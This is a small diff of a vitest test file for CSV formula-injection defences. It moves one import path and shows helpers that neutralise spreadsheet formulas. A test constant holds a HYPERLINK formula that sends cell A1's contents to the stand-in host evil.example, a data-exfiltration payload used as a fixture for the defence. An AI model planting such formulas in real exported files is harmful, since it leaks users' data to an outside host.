@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { toCsv } from '../client/format/write-table.js';
+import { toCsv } from '../client/cli/format/write-table.js';
 import { formulaSafeTable, neutraliseFormula, safeCsv } from './csv.js';
 
 const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"details")';
